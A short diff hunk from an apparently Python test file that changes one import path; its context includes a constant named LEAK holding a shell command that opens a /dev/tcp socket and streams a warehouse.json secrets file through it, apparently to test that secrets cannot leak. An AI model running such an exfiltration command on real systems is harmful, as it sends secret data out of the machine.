@@ -15,7 +15,7 @@ from justenough.domain.core.secret import Secret
 from tests.support.people import Human
 from tests.support.shop import Shop, access, spec
 from tests.support.warehouse import Fields, Warehouse
-from worker.stack import Stack
+from worker.stack.stack_file import Stack
 
 pytestmark = pytest.mark.servers
 LEAK = "exec 3<>/dev/tcp/127.0.0.1/{port}; cat /run/justenough/warehouse.json >&3; read -u 3; true"
